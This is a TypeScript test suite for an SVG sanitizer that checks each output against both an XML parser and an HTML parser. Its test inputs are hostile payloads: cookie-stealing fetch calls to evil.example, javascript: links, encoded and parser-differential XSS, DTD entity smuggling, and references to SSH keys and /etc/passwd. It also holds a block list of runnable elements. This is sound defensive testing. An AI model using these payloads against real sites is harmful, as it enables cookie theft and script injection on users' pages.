// The sanitizer against hostile SVG. Every output is checked twice, by
// independent readers: our own parser (as an XML document) and parse5, a
// spec-complete HTML parser (as inline SVG pasted into an HTML page, which is
// where generated SVG lands). Neither may find anything that runs script or
// reaches outside the document.
import assert from 'node:assert/strict';
import { parseFragment, type DefaultTreeAdapterMap } from 'parse5';
import { parseSvg } from '../../../src/core/svg/parse';
import { allElements } from '../../../src/core/svg/query';
import { describeRemovals, isSafeReference, sanitizeSvg } from '../../../src/core/svg/sanitize';

type Node5 = DefaultTreeAdapterMap['node'];

const RUNNABLE = new Set(['script', 'iframe', 'frame', 'embed', 'object', 'applet', 'handler', 'listener', 'base', 'link', 'meta', 'img', 'audio', 'video', 'form', 'input', 'button', 'textarea', 'portal']);
const URL_ATTRS = new Set(['href', 'src', 'action', 'formaction', 'data', 'background', 'poster', 'srcset']);
const local = (name: string) => name.slice(name.lastIndexOf(':') + 1).toLowerCase();

function unsafeCss(css: string): boolean {
  const c = css.replace(/\\([0-9a-f]{1,6})\s?/gi, (_, h: string) => String.fromCodePoint(parseInt(h, 16))).toLowerCase();
  if (/@import|expression\(|-moz-binding|behavior:/.test(c)) return true;
  return [...c.matchAll(/url\(\s*["']?([^"')]*)/g)].some((m) => !isSafeReference(m[1]));
}

/** What an XML reader finds active in the document. */
function activeInXml(svg: string): string[] {
  const found: string[] = [];
  const doc = parseSvg(svg);
  for (const el of allElements(doc)) {
    const name = local(el.name);
    if (RUNNABLE.has(name)) found.push(`<${el.name}>`);
    if (name === 'foreignobject' && el.children.some((c) => c.kind !== 'text' || c.value.trim())) found.push('foreignObject with content');
    if (name === 'style' && unsafeCss(el.children.map((c) => ('value' in c ? c.value : '')).join(''))) found.push('unsafe <style>');
    for (const a of el.attributes) {
      const n = local(a.name);
      if (n.startsWith('on')) found.push(`${a.name} on <${el.name}>`);
      if (URL_ATTRS.has(n) && !isSafeReference(a.value)) found.push(`${a.name}=${a.value}`);
      if ((n === 'style' || /url\(/i.test(a.value)) && unsafeCss(a.value)) found.push(`css in ${a.name}`);
    }
  }
  for (const c of doc.children) if (c.kind === 'pi' && !c.value.startsWith('xml ') && c.value !== 'xml') found.push(`<?${c.value}?>`);
  return found;
}

/** What the HTML parser finds active when the SVG is pasted into a page's body. */
function activeInHtml(svg: string): string[] {
  const found: string[] = [];
  const stack: Node5[] = [parseFragment(`<div>${svg}</div>`) as unknown as Node5];
  while (stack.length) {
    const node = stack.pop()!;
    if ('tagName' in node) {
      const name = node.tagName.toLowerCase();
      if (RUNNABLE.has(name)) found.push(`<${name}> (${node.namespaceURI.split('/').pop()})`);
      if (name === 'foreignobject' && node.childNodes.some((c) => c.nodeName !== '#text' || ('value' in c && String(c.value).trim()))) found.push('foreignObject with content');
      if (name === 'style' && unsafeCss(node.childNodes.map((c) => ('value' in c ? String(c.value) : '')).join(''))) found.push('unsafe <style>');
      for (const a of node.attrs) {
        const n = local(a.name);
        if (n.startsWith('on')) found.push(`${a.name} on <${name}>`);
        if (URL_ATTRS.has(n) && !isSafeReference(a.value)) found.push(`${a.name}=${a.value}`);
        if ((n === 'style' || /url\(/i.test(a.value)) && unsafeCss(a.value)) found.push(`css in ${a.name}`);
      }
    }
    const kids = 'content' in node && node.content ? [node.content as unknown as Node5] : [];
    if ('childNodes' in node) stack.push(...(node.childNodes as Node5[]), ...kids);
  }
  return found;
}

function assertClean(input: string, expectRemoved = true): { svg: string; removed: string[] } {
  // Nothing is found active by either reader before the sanitizer if the test input is harmless.
  const { svg, removed } = sanitizeSvg(input);
  assert.deepEqual(activeInXml(svg), [], `XML reader finds active content in:\n${svg}\n(from ${input})`);
  assert.deepEqual(activeInHtml(svg), [], `HTML reader finds active content in:\n${svg}\n(from ${input})`);
  if (expectRemoved) assert.ok(removed.length > 0, `nothing reported removed from ${input}`);
  // Sanitizing is idempotent: a clean document comes back unchanged.
  const again = sanitizeSvg(svg);
  assert.equal(again.svg, svg, 'a second pass changes nothing');
  assert.deepEqual(again.removed, []);
  return { svg, removed: removed.map((r) => r.what) };
}

const wrap = (inner: string) => `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 24 24">${inner}</svg>`;

describe('sanitizeSvg', () => {
  it('leaves a harmless icon byte for byte, with its local references, gradients and image data URLs', () => {
    const icon = `<?xml version="1.0" encoding="UTF-8"?>
<!-- a plain comment -->
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 24 24" style="fill: url(#g); stroke: red">
  <defs><linearGradient id="g"><stop offset="0" stop-color="#fff"/></linearGradient><path id="p" d="M0 0L1 1"/></defs>
  <style><![CDATA[ .a > .b { fill: url( "#g" ) } ]]></style>
  <use href="#p"/><use xlink:href="#p" clip-path="url(#c)"/>
  <image href="data:image/png;base64,iVBORw0KGgo=" width="4" height="4"/>
  <a href="#top"><title>Top &amp; more</title><text>x &lt; y</text></a>
  <foreignObject width="1" height="1"> </foreignObject>
  <animate attributeName="fill" values="red;blue" dur="1s"/>
</svg>`;
    const { svg, removed } = sanitizeSvg(icon);
    assert.equal(svg, icon);
    assert.deepEqual(removed, []);
    assert.deepEqual(activeInHtml(svg), []);
  });

  it('removes the hostile answer from the issue: script, onload stealing cookies, a javascript: link and a foreignObject iframe', () => {
    const hostile = wrap(`<script>fetch('https://evil.example/?c='+document.cookie)</script>
<rect width="24" height="24" onload="fetch('https://evil.example/?c='+document.cookie)" fill="red"/>
<a href="javascript:alert(document.domain)"><circle r="4"/></a>
<foreignObject width="10" height="10"><iframe xmlns="http://www.w3.org/1999/xhtml" src="https://evil.example"></iframe></foreignObject>`);
    const { svg, removed } = assertClean(hostile);
    assert.match(svg, /<rect width="24" height="24" fill="red"\/>/, 'the drawing stays');
    assert.match(svg, /<a><circle r="4"\/><\/a>/);
    assert.deepEqual(removed, ['<script>', 'onload on <rect>', 'href="javascript:alert(document.domain)" on <a>', '<foreignObject> holding HTML']);
    assert.equal(describeRemovals(sanitizeSvg(hostile).removed), 'removed active content: <script>, onload on <rect>, href="javascript:alert(document.domain)" on <a> and <foreignObject> holding HTML');
  });

  it('catches case variations, prefixes and namespaces', () => {
    for (const inner of [
      '<SCRIPT>alert(1)</SCRIPT>',
      '<ScRiPt>alert(1)</ScRiPt>',
      '<svg:script xmlns:svg="http://www.w3.org/2000/svg">alert(1)</svg:script>',
      '<html:script xmlns:html="http://www.w3.org/1999/xhtml">alert(1)</html:script>',
      '<rect ONLOAD="alert(1)"/>',
      '<rect OnClick="alert(1)"/>',
      '<rect ev:onclick="alert(1)" xmlns:ev="http://www.w3.org/2001/xml-events"/>',
      '<a XLINK:HREF="javascript:alert(1)">x</a>',
      '<a x:href="javascript:alert(1)" xmlns:x="http://www.w3.org/1999/xlink">x</a>',
      '<a href="JaVaScRiPt:alert(1)">x</a>',
      '<a href=" javascript:alert(1)">x</a>',
      '<a href="java&#x09;script:alert(1)">x</a>',
      '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
      '<a href="vbscript:msgbox(1)">x</a>',
      '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
      '<a href="DATA:text/html,&lt;script&gt;alert(1)&lt;/script&gt;">x</a>',
      '<image href="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4="/>',
      '<handler type="application/ecmascript">alert(1)</handler>',
      '<iframe src="https://evil.example"/>', '<embed src="x.swf"/>', '<object data="x.pdf"/>', '<IFRAME SRC="javascript:alert(1)"></IFRAME>',
    ]) assertClean(wrap(inner));
  });

  it('removes references that leave the document: href, src, url() and @import', () => {
    for (const inner of [
      '<use href="https://evil.example/sprite.svg#a"/>',
      '<use xlink:href="icons.svg#a"/>',
      '<image href="/etc/passwd"/>',
      '<image xlink:href="file:///home/user/.ssh/id_rsa"/>',
      '<feImage href="//evil.example/x.png"/>',
      '<rect fill="url(https://evil.example/track.svg#g)"/>',
      '<rect filter="url(\'//evil.example/f.svg#f\')"/>',
      '<rect cursor="url(https://evil.example/c.cur), auto"/>',
      '<rect style="background:url(https://evil.example/t.png)"/>',
      '<rect style="fill:red;background-image:u\\72l(https://evil.example/t.png)"/>',
      '<rect style="fill:red; behavior: url(x.htc)"/>',
      '<rect style="width: expression(alert(1))"/>',
      '<style>@import url(https://evil.example/x.css); rect { fill: red }</style>',
      '<style>@import "https://evil.example/x.css";</style>',
      '<style>@\\69mport "https://evil.example/x.css";</style>',
      '<style><![CDATA[ rect { fill: url(https://evil.example/a.svg#g) } ]]></style>',
      '<style>@font-face { font-family: x; src: url(https://evil.example/f.woff) } text { font-family: x }</style>',
      '<style>rect { background: image-set("https://evil.example/a.png" 1x) }</style>',
      '<style>/* */@import/**/url(https://evil.example/x.css);</style>',
    ]) assertClean(wrap(inner));
  });

  it('keeps the harmless rest of a style sheet or style attribute', () => {
    const { svg } = assertClean(wrap('<style>@import url(https://evil.example/x.css); rect { fill: red; background: url(https://e.example/x) } circle { stroke: blue }</style><rect style="fill: url(#g); background: url(https://e.example/t.png); stroke: red"/>'));
    assert.match(svg, /rect \{ fill: red;\s*\}/);
    assert.match(svg, /circle \{ stroke: blue \}/);
    assert.match(svg, /style="fill: url\(#g\); stroke: red"/);
  });

  it('removes animations that set href or handlers to active content', () => {
    for (const inner of [
      '<a><animate attributeName="href" values="javascript:alert(1)"/><text>x</text></a>',
      '<a><set attributeName="xlink:href" to="javascript:alert(1)"/><text>x</text></a>',
      '<a><animate attributeName="href" from="#a" to="https://evil.example"/><text>x</text></a>',
      '<a><animate attributeName="href" values="#a; javascript:alert(1)"/><text>x</text></a>',
      '<rect><set attributeName="onclick" to="alert(1)"/></rect>',
      '<rect><animate attributeName="fill" values="url(https://evil.example/g.svg#g)"/></rect>',
    ]) {
      const { removed } = assertClean(wrap(inner));
      assert.match(removed[0], /^<(animate|set)> setting/);
    }
    // An animation between local references stays.
    assert.deepEqual(sanitizeSvg(wrap('<a><animate attributeName="href" values="#a;#b" dur="1s"/></a>')).removed, []);
  });

  it('closes the places where an HTML page parses the SVG differently from XML', () => {
    for (const inner of [
      // HTML ends a comment at --!>, XML does not.
      '<!-- x --!><img src=x onerror=alert(1)> -->',
      // <desc> and <title> are HTML integration points: their content is HTML again.
      '<desc><img src="x" onerror="alert(1)"/></desc>',
      '<title><style>&lt;/style&gt;</style></title>',
      '<desc><style><![CDATA[</style><img src=x onerror=alert(1)>]]></style></desc>',
      '<desc><![CDATA[ x>]<img src=x onerror=alert(1)>]]></desc>',
      // CDATA holding markup is text to XML; escaped, it is text to HTML as well.
      '<text><![CDATA[</text><img src=x onerror=alert(1)>]]></text>',
      '<style><![CDATA[</style><img src=x onerror=alert(1)>]]></style>',
      '<?xml-stylesheet href="https://evil.example/x.css"?>',
    ]) assertClean(wrap(inner));
  });

  it('rewrites a document the parser had to repair, so the browser reads what was checked', () => {
    for (const input of [
      '<svg/onload=alert(1)>',
      '<svg><rect onclick=alert(1) /></svg>',
      '<svg><a href=javascript:alert(1)>x</a></svg>',
      '<svg><rect x="1"<script>alert(1)</script></svg>',
      '<svg><script>alert(1)',
      '<svg><g><script>alert(1)</g></script></svg>',
      '<svg><rect></svg><script>alert(1)</script>',
    ]) {
      const { svg } = assertClean(input);
      assert.doesNotMatch(svg, /alert\(1\)<\/script>|onload|onclick/i, svg);
    }
  });

  it('does not let DTD entities smuggle markup (a browser\'s XML parser expands them)', () => {
    const input = `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY s "<script>alert(1)</script>"><!ENTITY j "javascript:alert(1)">]>${wrap('<text>&s;</text><a href="&j;">x</a>')}`;
    const { svg, removed } = assertClean(input);
    assert.doesNotMatch(svg, /DOCTYPE|<script/);
    assert.match(svg, /&lt;script&gt;/, 'the entity\'s text stays as text');
    assert.ok(removed.includes('a DOCTYPE declaring entities'));
  });

  it('removes nested svg payloads and deep documents without recursion', () => {
    assertClean(wrap('<svg><svg><g><svg onload="alert(1)"><script>alert(2)</script></svg></g></svg></svg>'));
    const depth = 50_000;
    const deep = `<svg>${'<g>'.repeat(depth)}<script>alert(1)</script>${'</g>'.repeat(depth)}</svg>`;
    const { svg, removed } = sanitizeSvg(deep);
    assert.deepEqual(removed.map((r) => r.what), ['<script>']);
    assert.equal(svg.length, deep.length - '<script>alert(1)</script>'.length);
  });

  describe('baseline mode (Apply Fix on the user\'s own file)', () => {
    const original = wrap(`<use href="icons.svg#a"/><style>@font-face { font-family: brand; src: url(fonts/brand.woff2) }</style><a href="https://example.com/docs"><text>docs</text></a><script>init()</script>`);

    it('keeps the user\'s own external references, fonts, links and scripts', () => {
      const fix = original.replace('viewBox="0 0 24 24"', 'viewBox="0 0 32 32"');
      const { svg, removed } = sanitizeSvg(fix, { baseline: original });
      assert.equal(svg, fix);
      assert.deepEqual(removed, []);
    });

    it('removes only what the fix adds', () => {
      const fix = original
        .replace('<use href="icons.svg#a"/>', '<use href="icons.svg#a"/><use href="https://evil.example/x.svg#b"/>')
        .replace('<text>docs</text>', '<text onclick="steal()">docs</text>')
        .replace('src: url(fonts/brand.woff2) }', 'src: url(fonts/brand.woff2) } @import url(https://evil.example/x.css);')
        .replace('</svg>', '<script>steal()</script></svg>');
      const { svg, removed } = sanitizeSvg(fix, { baseline: original });
      assert.deepEqual(removed.map((r) => r.what), ['href="https://evil.example/x.svg#b" on <use>', '@import in <style>', 'onclick on <text>', '<script>']);
      assert.ok(svg.includes('<use href="icons.svg#a"/>') && svg.includes('url(fonts/brand.woff2)') && svg.includes('<script>init()</script>') && svg.includes('href="https://example.com/docs"'));
      assert.ok(!svg.includes('steal') && !svg.includes('evil.example'), svg);
    });

    it('a generated document (no baseline) is sanitised whole', () => {
      const { removed } = sanitizeSvg(original);
      assert.deepEqual(removed.map((r) => r.what), ['href="icons.svg#a" on <use>', 'url(fonts/brand.woff2) in <style>', 'href="https://example.com/docs" on <a>', '<script>']);
    });
  });

  it('describes what it removed in one line', () => {
    assert.equal(describeRemovals([]), '');
    const many = sanitizeSvg(wrap('<script>1</script><script>2</script><rect onclick="x"/><rect onload="y"/><a href="https://a.example">a</a><use href="b.svg#c"/>')).removed;
    assert.equal(describeRemovals(many), 'removed active content: <script> (×2), onclick on <rect>, onload on <rect>, href="https://a.example" on <a> and 1 more');
  });
});
